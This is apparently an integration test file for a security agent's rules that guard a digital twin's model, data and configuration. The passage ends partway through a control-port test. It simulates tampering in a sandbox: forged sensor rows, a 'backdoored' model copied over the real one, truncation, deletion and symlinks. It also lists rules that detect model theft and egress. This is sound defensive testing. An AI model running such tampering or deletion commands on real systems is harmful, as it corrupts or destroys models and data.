// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * rules/twin.json against the real agent: for every rule, the real attack
 * on a twin (real files, real processes, real connections) must raise the
 * alert with the right fields, and the benign near-misses of
 * docs/packs/twin.md must not. Harness: rules_harness.h (header-only).
 *
 * Every test builds its own twin and profile before it starts its agent:
 *
 *   /var/lib/rh-twin.XXXXXX/           (outside /tmp: a model dir under a
 *     models/grid.onnx                  temp dir would make every model
 *     data/sensors.csv                  write a "staged" copy too)
 *     config/engine.yaml
 *     bin/twin-engine    service        lab/twinlab.c, copied: the same
 *     bin/twin-deploy    deployer       code under each identity, only
 *     bin/twin-gateway   ingest writer  process.executable differs
 *     bin/twin-operator  client         a copy of /usr/bin/curl
 *     bin/twin-solver    the engine's own helper (a copy of /usr/bin/true)
 *     opt/implant        an intruder's tool (twinlab, no role)
 *   control port rh_lo_port(0), data port rh_lo_port(1) (per test: tests
 *   run in parallel); client and egress networks: loopback only, so the
 *   lab namespace's 198.51.100.2 is a non-allowlisted destination.
 *
 * Long-running twin processes (a service listening, a sink in the lab
 * namespace) are children of the worker started by bg_start(); they write
 * a ready file once set up and a line per connection served, which the test
 * waits for (with a deadline) before it judges what they did: the harness's
 * barrier orders only rh_run() commands. Keyed-by-user sequences run as a
 * uid of their own (rh_uid), since any root process on the host could
 * otherwise complete or advance them. Flow-driven thresholds are awaited
 * with rh_wait_alert(), and their near-misses judged after rh_stop(),
 * which drains the flow map.
 */
#include "rules_harness.h"

#define LAB_SRC "tests/integration/lab/twinlab.c"
#define NS_SINK_PORT 9000          /* the lab namespace's sink, on 198.51.100.2 */
#define FLOW_CONFIG "flow_flush_ms = 100\n"
#define WAIT_FLOW_MS 15000         /* flow-driven alerts: flushed every 100 ms */
#define MAX_BG 8

static const char R_PUBLISH[] = "Twin data published by unexpected process";
static const char R_DATA_MOD[] = "Twin data file modified by unexpected process";
static const char R_MODEL_MOD[] = "Twin model modified by non-deployer";
static const char R_MODEL_DEL[] = "Twin model deleted by non-deployer";
static const char R_MODEL_READ[] = "Twin model read by unexpected process";
static const char R_CONFIG_MOD[] = "Twin configuration modified by non-deployer";
static const char R_EXEC_DIR[] = "Executable run from twin directory";
static const char R_CONTROL[] = "Twin control port used by unauthorized process";
static const char R_PEER[] = "Twin control peer outside client networks";
static const char R_SHELL[] = "Shell or interpreter spawned by twin service";
static const char R_TRACE[] = "Twin service traced or memory accessed";
static const char R_PROCMEM[] = "Process memory opened through procfs";
static const char R_STOP[] = "Twin service stopped by unexpected process";
static const char R_LISTENER[] = "Unexpected listener on twin port";
static const char R_READ_SENT[] = "Twin model or data read then sent out";
static const char R_ARCHIVE[] = "Twin files archived then sent out";
static const char R_STAGED[] = "Twin model staged in temporary directory";
static const char R_STAGED_SENT[] = "Staged twin model sent out";
static const char R_LARGE[] = "Large egress to non-allowlisted destination";
static const char R_SUSTAINED[] = "Sustained egress to non-allowlisted destination";

/* The integrity rules are tested in test_integrity.c (their own twin and
 * manifest). */
static const char R_INT_MISMATCH[] = "Twin file integrity mismatch";
static const char R_INT_UNKNOWN[] = "Unknown file in twin model or config directory";
static const char R_INT_MISSING[] = "Twin file from the manifest missing";

static const char *const covered[] = {
	R_PUBLISH, R_DATA_MOD, R_MODEL_MOD, R_MODEL_DEL, R_MODEL_READ, R_CONFIG_MOD, R_EXEC_DIR,
	R_CONTROL, R_PEER, R_SHELL, R_TRACE, R_PROCMEM, R_STOP, R_LISTENER, R_READ_SENT,
	R_ARCHIVE, R_STAGED, R_STAGED_SENT, R_LARGE, R_SUSTAINED, R_INT_MISMATCH, R_INT_UNKNOWN,
	R_INT_MISSING,
};

static struct rh_agent ag;

/* ---- the twin ------------------------------------------------------------ */

static struct {
	char root[64];
	char models[128], data[128], config[128], incoming[128];
	char model[160], datafile[160], conffile[160];
	char engine[128], deploy[128], gateway[128], operator_[128];
	char solver[128], implant[128], lab[PATH_MAX];
	int control, data_port, lsink, other;
	char profile[8192];
} tw;

/* Background processes (services, sinks): killed and reaped in the fini. */
static struct {
	pid_t pid;
	char log[PATH_MAX];
} bg[MAX_BG];
static int nbg;

static void bg_kill_all(void)
{
	for (int i = 0; i < nbg; i++) {
		if (bg[i].pid > 0) {
			kill(bg[i].pid, SIGKILL);
			waitpid(bg[i].pid, NULL, 0);
			bg[i].pid = 0;
		}
	}
	nbg = 0;
}

static void twin_fini(void)
{
	bg_kill_all();
	rh_cleanup();
}

TestSuite(twin, .fini = twin_fini, .timeout = 240);

/*
 * Start argv in the background (in network namespace ns when not NULL),
 * stdin /dev/null, output to a log; wait until it created ready. Its pid.
 */
static pid_t bg_start(const char *ns, const char *ready, const char *const argv[])
{
	char nspath[128] = "";
	pid_t parent = getpid(), pid;
	int64_t deadline;
	int i = nbg;

	cr_assert_lt(nbg, MAX_BG, "more than %d background processes", MAX_BG);
	snprintf(bg[i].log, sizeof(bg[i].log), "%s/.bg-%d.log", rh_tmpdir(), i);
	if (ns)
		snprintf(nspath, sizeof(nspath), "/run/netns/%s", ns);
	unlink(ready);
	fflush(NULL);
	pid = fork();
	cr_assert_geq(pid, 0, "fork: %s", strerror(errno));
	if (pid == 0) {
		int in = open("/dev/null", O_RDONLY | O_CLOEXEC);
		int out = open(bg[i].log, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

		if (in < 0 || out < 0 || dup2(in, 0) < 0 || dup2(out, 1) < 0 || dup2(out, 2) < 0)
			_exit(125);
		setpgid(0, 0);
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (getppid() != parent)
			_exit(125);
		if (nspath[0]) {
			int fd = open(nspath, O_RDONLY | O_CLOEXEC);

			if (fd < 0 || setns(fd, CLONE_NEWNET))
				_exit(124);
		}
		execv(argv[0], (char *const *)argv);
		_exit(127);
	}
	bg[i].pid = pid;
	nbg++;
	deadline = rh_now_ms() + RH_DEADLINE_MS;
	while (access(ready, F_OK) != 0) {
		int st;

		if (waitpid(pid, &st, WNOHANG) == pid) {
			bg[i].pid = 0;
			cr_assert_fail("%s exited (status 0x%x) before it was ready; output:\n%s", argv[0],
				       st, rh_file_read(bg[i].log));
		}
		cr_assert(rh_now_ms() < deadline, "%s not ready after %d ms; output:\n%s", argv[0],
			  RH_DEADLINE_MS, rh_file_read(bg[i].log));
		rh_nap();
	}
	return pid;
}

/* Wait (bounded) for a background process the test made exit; its status. */
static int bg_reap(pid_t pid)
{
	int st = rh_reap_within(pid, RH_DEADLINE_MS);

	cr_assert_neq(st, -1, "background process %d still running", pid);
	for (int i = 0; i < nbg; i++)
		if (bg[i].pid == pid)
			bg[i].pid = 0;
	return st;
}

/* twinlab (as exe) listening on addr:port (mode: NULL, "http" or
 * "serve=BYTES", see twinlab.c); its ready file's path in *rdy. */
static pid_t listener(const char *ns, const char *exe, const char *addr, int port, const char *mode,
		      const char **rdy)
{
	static unsigned n;
	char portstr[16];
	const char *ready = rh_path(".listen-%u.ready", n++);
	const char *argv[] = { exe, "listen", addr, portstr, ready, mode, NULL };

	snprintf(portstr, sizeof(portstr), "%d", port);
	if (rdy)
		*rdy = ready;
	return bg_start(ns, ready, argv);
}

/* Wait until the listener with ready file rdy has served n connections
 * (it appends a line to rdy.conns after accept ... close). */
static void wait_conns(const char *rdy, size_t n)
{
	char log[PATH_MAX];
	int64_t deadline = rh_now_ms() + RH_DEADLINE_MS;

	snprintf(log, sizeof(log), "%s.conns", rdy);
	for (;;) {
		char *t = rh_file_read(log);
		size_t lines = 0;

		for (const char *p = t; *p; p++)
			lines += *p == '\n';
		free(t);
		if (lines >= n)
			return;
		cr_assert(rh_now_ms() < deadline, "listener %s served %zu of %zu connections", rdy,
			  lines, n);
		rh_nap();
	}
}

/* A long-running twin process (twinlab wait) as exe. */
static pid_t sleeper(const char *exe)
{
	static unsigned n;
	const char *ready = rh_path(".wait-%u.ready", n++);
	const char *argv[] = { exe, "wait", ready, NULL };

	return bg_start(NULL, ready, argv);
}

/* The lab namespace and a fast sink (twinlab, reads each connection to EOF)
 * on 198.51.100.2:NS_SINK_PORT. Returns the namespace's name. */
static const char *lab_netns(void)
{
	const char *ns = rh_netns_up(NULL);

	listener(ns, tw.lab, "0.0.0.0", NS_SINK_PORT, NULL, NULL);
	return ns;
}

/*
 * Build the twin (see the top of the file) and its profile. Call before
 * rh_start(): the set-up is not what the rules judge.
 */
static void twin_setup(void)
{
	char src[PATH_MAX], tmpl[] = "/var/lib/rh-twin.XXXXXX";

	cr_assert_not_null(realpath(LAB_SRC, src), "%s: %s (run from the repo root)", LAB_SRC,
			   strerror(errno));
	snprintf(tw.lab, sizeof(tw.lab), "%s/.twinlab", rh_tmpdir());
	rh_setup_sh("gcc -O1 -Wall -Wextra -Werror -o '%s' '%s'", tw.lab, src);
	cr_assert_not_null(mkdtemp(tmpl), "mkdtemp %s: %s", tmpl, strerror(errno));
	snprintf(tw.root, sizeof(tw.root), "%s", tmpl);
	rh_defer_rm(tw.root);
	chmod(tw.root, 0755);
	snprintf(tw.models, sizeof(tw.models), "%s/models", tw.root);
	snprintf(tw.data, sizeof(tw.data), "%s/data", tw.root);
	snprintf(tw.config, sizeof(tw.config), "%s/config", tw.root);
	snprintf(tw.incoming, sizeof(tw.incoming), "%s/incoming", tw.root);
	snprintf(tw.model, sizeof(tw.model), "%s/grid.onnx", tw.models);
	snprintf(tw.datafile, sizeof(tw.datafile), "%s/sensors.csv", tw.data);
	snprintf(tw.conffile, sizeof(tw.conffile), "%s/engine.yaml", tw.config);
	snprintf(tw.engine, sizeof(tw.engine), "%s/bin/twin-engine", tw.root);
	snprintf(tw.deploy, sizeof(tw.deploy), "%s/bin/twin-deploy", tw.root);
	snprintf(tw.gateway, sizeof(tw.gateway), "%s/bin/twin-gateway", tw.root);
	snprintf(tw.operator_, sizeof(tw.operator_), "%s/bin/twin-operator", tw.root);
	snprintf(tw.solver, sizeof(tw.solver), "%s/bin/twin-solver", tw.root);
	snprintf(tw.implant, sizeof(tw.implant), "%s/opt/implant", tw.root);
	rh_setup_sh("set -e; cd '%1$s'; mkdir -m 0755 models data config bin opt incoming; "
		    "for b in twin-engine twin-deploy twin-gateway; do cp '%2$s' bin/$b; done; "
		    "cp /usr/bin/curl bin/twin-operator; cp /usr/bin/true bin/twin-solver; "
		    "cp '%2$s' opt/implant; chmod 0755 bin/* opt/*; "
		    "printf 'onnx-weights-v1\\n' > models/grid.onnx; "
		    "printf 'ts,value\\n1,42\\n' > data/sensors.csv; "
		    "printf 'setpoint: 50\\n' > config/engine.yaml; "
		    "printf 'onnx-weights-v2\\n' > incoming/grid-v2.onnx; "
		    "chmod 0644 models/* data/* config/* incoming/*",
		    tw.root, tw.lab);
	tw.control = rh_lo_port(0);
	tw.data_port = rh_lo_port(1);
	tw.lsink = rh_lo_port(2);   /* a loopback sink: an allowed destination */
	tw.other = rh_lo_port(3);   /* a port with no twin role */
	snprintf(tw.profile, sizeof(tw.profile),
		 "// rules integration test twin (test_rules_twin.c)\n"
		 "{\"name\": \"rh-twin\",\n"
		 " \"services\": [\"%s\"], \"deployers\": [\"%s\"],\n"
		 " \"clients\": [\"%s\"], \"ingest_writers\": [\"%s\"],\n"
		 " \"model_dirs\": [\"%s\"], \"data_dirs\": [\"%s\"], \"config_dirs\": [\"%s\"],\n"
		 " \"control_ports\": [%d], \"data_ports\": [%d],\n"
		 " \"client_networks\": [\"127.0.0.0/8\", \"::1/128\"],\n"
		 " \"egress_networks\": [\"127.0.0.0/8\", \"::1/128\"]}\n",
		 tw.engine, tw.deploy, tw.operator_, tw.gateway, tw.models, tw.data, tw.config,
		 tw.control, tw.data_port);
}

/* ---- alert fields ---------------------------------------------------------- */

/* The common fields of an alert of this pack. */
static void expect_twin_alert(const cJSON *al, const char *rule, const char *exe)
{
	rh_expect_alert_shape(al, rule);
	if (exe)
		rh_expect_str(al, "process.executable", exe);
	/* twin.* are derived fields: in the view, not in the alert's JSON; the
	 * pack's outputs name the twin */
	if (strcmp(rule, R_PROCMEM))
		rh_expect_contains(al, "message", "twin=rh-twin");
}

/* Step i of a sequence alert's details: action, executable, path (each
 * checked when not NULL). */
static void expect_step(const cJSON *al, int i, const char *action, const char *exe,
			const char *path)
{
	const cJSON *steps, *s;

	if (!al)
		return;
	steps = rh_jget(al, "twinguard.alert.details.steps");
	s = cJSON_GetArrayItem(steps, i);
	cr_expect_not_null(s, "%s: no step %d in twinguard.alert.details.steps",
			   rh_s(rh_jstr(al, "rule.name")), i);
	if (!s)
		return;
	if (action)
		cr_expect_str_eq(rh_s(rh_jstr(s, "action")), action, "%s: step %d action",
				 rh_s(rh_jstr(al, "rule.name")), i);
	if (exe)
		cr_expect_str_eq(rh_s(rh_jstr(s, "executable")), exe, "%s: step %d executable",
				 rh_s(rh_jstr(al, "rule.name")), i);
	if (path)
		cr_expect_str_eq(rh_s(rh_jstr(s, "path")), path, "%s: step %d path",
				 rh_s(rh_jstr(al, "rule.name")), i);
}

/* A sequence alert: kind, key, number of steps. */
static void expect_sequence(const cJSON *al, const char *by, int steps)
{
	if (!al)
		return;
	rh_expect_str(al, "twinguard.alert.kind", "sequence");
	rh_expect_str(al, "twinguard.alert.details.by", by);
	cr_expect_eq(cJSON_GetArraySize(rh_jget(al, "twinguard.alert.details.steps")), steps,
		     "%s: %d steps in the details", rh_s(rh_jstr(al, "rule.name")),
		     cJSON_GetArraySize(rh_jget(al, "twinguard.alert.details.steps")));
}

/* A threshold alert on (process.entity_id, destination.ip). */
static void expect_threshold(const cJSON *al, double limit, double window_s, const char *ip)
{
	const cJSON *group, *gip, *gent;
	double sum = 0;

	if (!al)
		return;
	rh_expect_str(al, "twinguard.alert.kind", "threshold");
	rh_expect_num(al, "twinguard.alert.details.limit", limit);
	rh_expect_num(al, "twinguard.alert.details.window_s", window_s);
	cr_expect(rh_jnum(al, "twinguard.alert.details.sum", &sum) && sum > limit,
		  "%s: details.sum %.0f, want more than %.0f", rh_s(rh_jstr(al, "rule.name")), sum,
		  limit);
	/* the group's keys are the field names, dots included */
	group = rh_jget(al, "twinguard.alert.details.group");
	gip = cJSON_GetObjectItemCaseSensitive(group, "destination.ip");
	gent = cJSON_GetObjectItemCaseSensitive(group, "process.entity_id");
	cr_expect(cJSON_IsString(gip) && !strcmp(gip->valuestring, ip),
		  "%s: details.group[\"destination.ip\"] is not '%s'", rh_s(rh_jstr(al, "rule.name")), ip);
	cr_expect(cJSON_IsString(gent) && rh_jstr(al, "process.entity_id") &&
		  !strcmp(gent->valuestring, rh_jstr(al, "process.entity_id")),
		  "%s: details.group[\"process.entity_id\"] is not the sender's",
		  rh_s(rh_jstr(al, "rule.name")));
	rh_expect_str(al, "destination.ip", ip);
	rh_expect_str(al, "event.action", "flow");
}

/* ---- the pack ---------------------------------------------------------------- */


/* Every rule of the pack has a test here, and every rule tested exists. */
Test(twin, every_rule_has_a_test)
{
	rh_expect_pack_covered(RH_RULES_DIR "/twin.json", covered, sizeof(covered) / sizeof(covered[0]),
			       __FILE__);
}

/* ======================================================================== */
/* Data poisoning                                                           */
/* ======================================================================== */

Test(twin, data_published_by_unexpected_process)
{
	const char *rdy;
	const cJSON *al;
	pid_t broker, pid;

	twin_setup();
	rh_start(&ag, tw.profile);
	/* the twin's broker (a service) on the data port */
	broker = listener(NULL, tw.engine, "127.0.0.1", tw.data_port, NULL, &rdy);

	/* Near-misses: the ingest writer and the engine publishing; a connect
	 * to a port with no twin role; the broker's accepts (a service). */
	pid = rh_runf("'%s' connect 127.0.0.1 %d 64", tw.gateway, tw.data_port);
	rh_assert_ok("gateway publish");
	rh_expect_no_alert(&ag, R_PUBLISH, pid);
	pid = rh_runf("'%s' connect 127.0.0.1 %d 64", tw.engine, tw.data_port);
	rh_assert_ok("engine publish");
	rh_expect_no_alert(&ag, R_PUBLISH, pid);
	listener(NULL, tw.lab, "127.0.0.1", tw.other, NULL, NULL);
	pid = rh_runf("'%s' connect 127.0.0.1 %d 64", tw.implant, tw.other);
	rh_assert_ok("connect to a non-twin port");
	rh_expect_no_alert(&ag, R_PUBLISH, pid);
	wait_conns(rdy, 2);
	rh_sync(&ag);
	rh_expect_no_alert(&ag, R_PUBLISH, broker);

	/* Forged readings: a TCP publish and a UDP datagram to the data port. */
	pid = rh_runf("'%s' connect 127.0.0.1 %d 64", tw.implant, tw.data_port);
	rh_assert_ok("implant publish");
	al = rh_expect_alert_where(&ag, R_PUBLISH, pid, "event.action", "connect");
	expect_twin_alert(al, R_PUBLISH, tw.implant);
	rh_expect_str(al, "destination.ip", "127.0.0.1");
	rh_expect_num(al, "destination.port", tw.data_port);
	pid = rh_runf("'%s' udp 127.0.0.1 %d 32", tw.implant, tw.data_port);
	rh_assert_ok("implant datagram");
	al = rh_expect_alert_where(&ag, R_PUBLISH, pid, "event.action", "sendto");
	expect_twin_alert(al, R_PUBLISH, tw.implant);
	rh_expect_num(al, "destination.port", tw.data_port);
	rh_expect_str(al, "network.transport", "udp");
	rh_stop(&ag);
}

Test(twin, data_file_modified_by_unexpected_process)
{
	const cJSON *al;
	pid_t pid;

	twin_setup();
	rh_setup_sh("printf 'old\\n' > '%1$s/old.csv' && printf 'x\\n' > '%2$s/forged.csv'", tw.data,
		    tw.incoming);
	rh_start(&ag, tw.profile);

	/* Near-misses: the ingest writer and the engine appending; reading and
	 * listing the data. */
	pid = rh_runf("'%s' append '%s' '2,43\n'", tw.gateway, tw.datafile);
	rh_assert_ok("gateway append");
	rh_expect_no_alert(&ag, R_DATA_MOD, pid);
	pid = rh_runf("'%s' append '%s' '3,44\n'", tw.engine, tw.datafile);
	rh_assert_ok("engine append");
	rh_expect_no_alert(&ag, R_DATA_MOD, pid);
	pid = rh_runf("head -n 1 '%1$s' > /dev/null && cat '%1$s' > /dev/null && ls -l '%2$s' > /dev/null",
		      tw.datafile, tw.data);
	rh_assert_ok("read data");
	rh_expect_no_alert(&ag, R_DATA_MOD, pid);

	/* Poisoning: a shell appending a forged row, a forged file moved in,
	 * history deleted. */
	pid = rh_runf("echo '4,9999' >> '%s'", tw.datafile);
	rh_assert_ok("append");
	al = rh_expect_alert_where(&ag, R_DATA_MOD, pid, "file.path", tw.datafile);
	expect_twin_alert(al, R_DATA_MOD, "/usr/bin/dash");
	rh_expect_str(al, "event.action", "open");
	pid = rh_runf("mv '%s/forged.csv' '%s/forged.csv'", tw.incoming, tw.data);
	rh_assert_ok("mv into data");
	al = rh_expect_alert_where(&ag, R_DATA_MOD, pid, "event.action", "rename");
	expect_twin_alert(al, R_DATA_MOD, "/usr/bin/mv");
	{
		char want[PATH_MAX + 16], old[PATH_MAX + 16];

		snprintf(want, sizeof(want), "%s/forged.csv", tw.data);
		snprintf(old, sizeof(old), "%s/forged.csv", tw.incoming);
		rh_expect_str(al, "file.path", want);
		rh_expect_str(al, "file.old_path", old);
	}
	pid = rh_runf("rm '%s/old.csv'", tw.data);
	rh_assert_ok("rm");
	al = rh_expect_alert_where(&ag, R_DATA_MOD, pid, "event.action", "unlink");
	expect_twin_alert(al, R_DATA_MOD, "/usr/bin/rm");
	rh_stop(&ag);
}

/* ======================================================================== */
/* Model and configuration tampering                                        */
/* ======================================================================== */

Test(twin, model_modified_by_non_deployer)
{
	char staged[PATH_MAX + 16], evil[PATH_MAX + 16], link[PATH_MAX + 16], away[PATH_MAX + 16];
	const char *v2 = rh_path("grid-v2.onnx");
	const cJSON *al;
	pid_t pid;

	twin_setup();
	snprintf(staged, sizeof(staged), "%s/grid.onnx.new", tw.models);
	snprintf(evil, sizeof(evil), "%s/evil.onnx", tw.incoming);
	snprintf(link, sizeof(link), "%s/evil-link.onnx", tw.models);
	snprintf(away, sizeof(away), "%s/stolen.onnx", tw.incoming);
	rh_setup_sh("cp '%s/grid-v2.onnx' '%s' && printf 'backdoored\\n' > '%s'", tw.incoming, v2, evil);
	rh_start(&ag, tw.profile);

	/* Near-misses: the deployer writing model.new and renaming it over the
	 * model; the same by the cp/mv a deployer runs; the engine reading the
	 * model; a checksum; a listing. */
	pid = rh_runf("'%s' copy '%s' '%s'", tw.deploy, v2, staged);
	rh_assert_ok("deployer writes model.new");
	rh_expect_no_alert(&ag, R_MODEL_MOD, pid);
	pid = rh_runf("'%s' rename '%s' '%s'", tw.deploy, staged, tw.model);
	rh_assert_ok("deployer renames it over the model");
	rh_expect_no_alert(&ag, R_MODEL_MOD, pid);
	pid = rh_runf("'%s' spawn /bin/sh -c \"cp '%s' '%s' && mv '%s' '%s'\"", tw.deploy, v2, staged,
		      staged, tw.model);
	rh_assert_ok("deployer's cp and mv");
	rh_expect_no_alert(&ag, R_MODEL_MOD, pid);
	pid = rh_runf("'%s' read '%s'", tw.engine, tw.model);
	rh_assert_ok("engine reads the model");
	rh_expect_no_alert(&ag, R_MODEL_MOD, pid);
	pid = rh_runf("sha256sum '%s' > /dev/null && ls -l '%s' > /dev/null", tw.model, tw.models);
	rh_assert_ok("checksum, listing");
	rh_expect_no_alert(&ag, R_MODEL_MOD, pid);

	/* Overwritten in place (cp opens it O_WRONLY|O_TRUNC). */
	pid = rh_runf("cp '%s' '%s'", evil, tw.model);
	rh_assert_ok("cp over the model");
	al = rh_expect_alert_where(&ag, R_MODEL_MOD, pid, "event.action", "open");
	expect_twin_alert(al, R_MODEL_MOD, "/usr/bin/cp");
	rh_expect_str(al, "file.path", tw.model);
	/* Replaced atomically. */
	rh_setup_sh("printf 'backdoored\\n' > '%s'", evil);
	pid = rh_runf("mv '%s' '%s'", evil, tw.model);
	rh_assert_ok("mv over the model");
	al = rh_expect_alert_where(&ag, R_MODEL_MOD, pid, "event.action", "rename");
	expect_twin_alert(al, R_MODEL_MOD, "/usr/bin/mv");
	rh_expect_str(al, "file.path", tw.model);
	rh_expect_str(al, "file.old_path", evil);
	/* Permissions, truncation, a planted symlink. */
	pid = rh_runf("chmod 0666 '%s'", tw.model);
	rh_assert_ok("chmod");
	al = rh_expect_alert_where(&ag, R_MODEL_MOD, pid, "event.action", "chmod");
	expect_twin_alert(al, R_MODEL_MOD, "/usr/bin/chmod");
	rh_expect_str(al, "file.mode", "0666");
	pid = rh_runf("truncate -s 0 '%s'", tw.model);
	rh_assert_ok("truncate");
	al = rh_expect_alert_where(&ag, R_MODEL_MOD, pid, "event.action", "truncate");
	expect_twin_alert(al, R_MODEL_MOD, "/usr/bin/truncate");
	rh_expect_str(al, "file.path", tw.model);
	pid = rh_runf("ln -s '%s' '%s'", evil, link);
	rh_assert_ok("ln -s");
	al = rh_expect_alert_where(&ag, R_MODEL_MOD, pid, "event.action", "symlink");
	expect_twin_alert(al, R_MODEL_MOD, "/usr/bin/ln");
	rh_expect_str(al, "file.path", link);
	/* Renamed away: the model is the old end (twin.file.old_role). */
	pid = rh_runf("mv '%s' '%s'", tw.model, away);
	rh_assert_ok("mv the model away");
	al = rh_expect_alert_where(&ag, R_MODEL_MOD, pid, "event.action", "rename");
	expect_twin_alert(al, R_MODEL_MOD, "/usr/bin/mv");
	rh_expect_str(al, "file.old_path", tw.model);
	rh_stop(&ag);
}

Test(twin, model_deleted_by_non_deployer)
{
	char old[PATH_MAX + 16];
	const cJSON *al;
	pid_t pid;

	twin_setup();
	snprintf(old, sizeof(old), "%s.old", tw.model);
	rh_setup_sh("cp '%s' '%s'", tw.model, old);
	rh_start(&ag, tw.profile);

	/* Near-miss: the deployer's rm removing model.old after a deployment. */
	pid = rh_runf("'%s' spawn /bin/rm '%s'", tw.deploy, old);
	rh_assert_ok("deployer's rm");
	rh_expect_no_alert(&ag, R_MODEL_DEL, pid);

	pid = rh_runf("rm -f '%s'", tw.model);
	rh_assert_ok("rm the model");
	al = rh_expect_alert(&ag, R_MODEL_DEL, pid);
	expect_twin_alert(al, R_MODEL_DEL, "/usr/bin/rm");
	rh_expect_str(al, "event.action", "unlink");
	rh_expect_str(al, "file.path", tw.model);
	/* deletion is this rule's, not "modified"'s */
	rh_expect_no_alert(&ag, R_MODEL_MOD, pid);
	rh_stop(&ag);
}

/* As shipped the rule is off: reading a model raises nothing. */
Test(twin, model_read_rule_ships_disabled)
{
	pid_t pid;

	twin_setup();
	rh_start(&ag, tw.profile);
	pid = rh_runf("cat '%s' > /dev/null", tw.model);
	rh_assert_ok("cat the model");
	rh_expect_no_alert(&ag, R_MODEL_READ, pid);
	rh_stop(&ag);
}

/* Enabled the documented way (a rules.d file, then SIGHUP): any reader
 * but the twin's services and deployers is reported. */
Test(twin, model_read_by_unexpected_process_when_enabled)
{
	char path[PATH_MAX + 32];
	const cJSON *al;
	int64_t deadline;
	pid_t pid;

	twin_setup();
	rh_start(&ag, tw.profile);
	snprintf(path, sizeof(path), "%s/50-enable-model-read.json", ag.local);
	rh_file_write(path, "[{\"rule\": \"Twin model read by unexpected process\", \"enabled\": true}]\n");
	cr_assert_eq(kill(ag.pid, SIGHUP), 0);
	deadline = rh_now_ms() + RH_DEADLINE_MS;
	for (;;) {
		char *err = rh_file_read(ag.errf);
		bool done = strstr(err, "twinguard: reloaded") != NULL;

		cr_assert_null(strstr(err, "reload failed"), "reload failed:\n%s", err);
		free(err);
		if (done)
			break;
		cr_assert(rh_now_ms() < deadline, "no reload after %d ms", RH_DEADLINE_MS);
		rh_nap();
	}

	/* Near-misses: the engine and the deployer (and what it runs) reading
	 * the model; a listing of the model directory (O_DIRECTORY). */
	pid = rh_runf("'%s' read '%s'", tw.engine, tw.model);
	rh_assert_ok("engine read");
	rh_expect_no_alert(&ag, R_MODEL_READ, pid);
	pid = rh_runf("'%1$s' read '%2$s' && '%1$s' spawn /usr/bin/sha256sum '%2$s'", tw.deploy, tw.model);
	rh_assert_ok("deployer read");
	rh_expect_no_alert(&ag, R_MODEL_READ, pid);
	pid = rh_runf("ls -la '%s' > /dev/null", tw.models);
	rh_assert_ok("ls");
	rh_expect_no_alert(&ag, R_MODEL_READ, pid);

	pid = rh_runf("cat '%s' > /dev/null", tw.model);
	rh_assert_ok("cat");
	al = rh_expect_alert(&ag, R_MODEL_READ, pid);
	expect_twin_alert(al, R_MODEL_READ, "/usr/bin/cat");
	rh_expect_str(al, "event.action", "open");
	rh_expect_str(al, "file.path", tw.model);
	rh_stop(&ag);
}

Test(twin, configuration_modified_by_non_deployer)
{
	char bak[PATH_MAX + 16];
	const cJSON *al;
	pid_t pid;

	twin_setup();
	snprintf(bak, sizeof(bak), "%s.bak", tw.conffile);
	rh_start(&ag, tw.profile);

	/* Near-misses: the deployer (and the shell it runs) writing the
	 * configuration; the engine reading it. */
	pid = rh_runf("'%s' append '%s' 'limit: 10\n'", tw.deploy, tw.conffile);
	rh_assert_ok("deployer append");
	rh_expect_no_alert(&ag, R_CONFIG_MOD, pid);
	pid = rh_runf("'%s' spawn /bin/sh -c \"echo 'setpoint: 51' > '%s'\"", tw.deploy, tw.conffile);
	rh_assert_ok("deployer's shell");
	rh_expect_no_alert(&ag, R_CONFIG_MOD, pid);
	pid = rh_runf("'%1$s' read '%2$s' && cat '%2$s' > /dev/null", tw.engine, tw.conffile);
	rh_assert_ok("read the configuration");
	rh_expect_no_alert(&ag, R_CONFIG_MOD, pid);

	pid = rh_runf("echo 'setpoint: 99' >> '%s'", tw.conffile);
	rh_assert_ok("append");
	al = rh_expect_alert_where(&ag, R_CONFIG_MOD, pid, "event.action", "open");
	expect_twin_alert(al, R_CONFIG_MOD, "/usr/bin/dash");
	rh_expect_str(al, "file.path", tw.conffile);
	pid = rh_runf("chmod 0600 '%s'", tw.conffile);
	rh_assert_ok("chmod");
	al = rh_expect_alert_where(&ag, R_CONFIG_MOD, pid, "event.action", "chmod");
	expect_twin_alert(al, R_CONFIG_MOD, "/usr/bin/chmod");
	pid = rh_runf("mv '%s' '%s'", tw.conffile, bak);
	rh_assert_ok("mv");
	al = rh_expect_alert_where(&ag, R_CONFIG_MOD, pid, "event.action", "rename");
	expect_twin_alert(al, R_CONFIG_MOD, "/usr/bin/mv");
	rh_expect_str(al, "file.old_path", tw.conffile);
	rh_expect_str(al, "file.path", bak);
	rh_stop(&ag);
}

Test(twin, executable_run_from_twin_directory)
{
	const char *dirs[] = { tw.models, tw.data, tw.config };
	const cJSON *al;
	pid_t pid;

	twin_setup();
	for (size_t i = 0; i < 3; i++)
		rh_setup_sh("cp /usr/bin/true '%1$s/payload' && chmod 0755 '%1$s/payload'", dirs[i]);
	rh_start(&ag, tw.profile);

	/* Near-miss: the engine starting its own helper from its bin dir. */
	pid = rh_runf("'%s' spawn '%s'", tw.engine, tw.solver);
	rh_assert_ok("engine runs its solver");
	rh_expect_no_alert(&ag, R_EXEC_DIR, pid);

	for (size_t i = 0; i < 3; i++) {
		char payload[PATH_MAX + 16];

		snprintf(payload, sizeof(payload), "%s/payload", dirs[i]);
		pid = rh_runf("'%s'", payload);
		rh_assert_ok("payload");
		al = rh_expect_alert_where(&ag, R_EXEC_DIR, pid, "process.executable", payload);
		expect_twin_alert(al, R_EXEC_DIR, payload);
		rh_expect_str(al, "event.action", "exec");
	}
	rh_stop(&ag);
}

/* ======================================================================== */
/* Control plane                                                            */
/* ======================================================================== */

Test(twin, control_port_used_by_unauthorized_process)
{
	const cJSON *al;
	pid_t pid;

	twin_setup();
	rh_start(&ag, tw.profile);
	/* the engine's REST API */
	listener(NULL, tw.engine, "127.0.0.1", tw.control, "http", NULL);

	/* Near-misses: the operator's client, the deployer calling the reload
	 * endpoint, the engine itself. */
	pid = rh_runf("'%s' -sf -m 5 -X POST -d value=51 http://127.0.0.1:%d/setpoint", tw.operator_,
		      tw.control);
	rh_assert_ok("operator POST");
	rh_expect_no_alert(&ag, R_CONTROL, pid);
	pid = rh_runf("'%s' connect 127.0.0.1 %d 16", tw.deploy, tw.control);
	rh_assert_ok("deployer reload call");
	rh_expect_no_alert(&ag, R_CONTROL, pid);
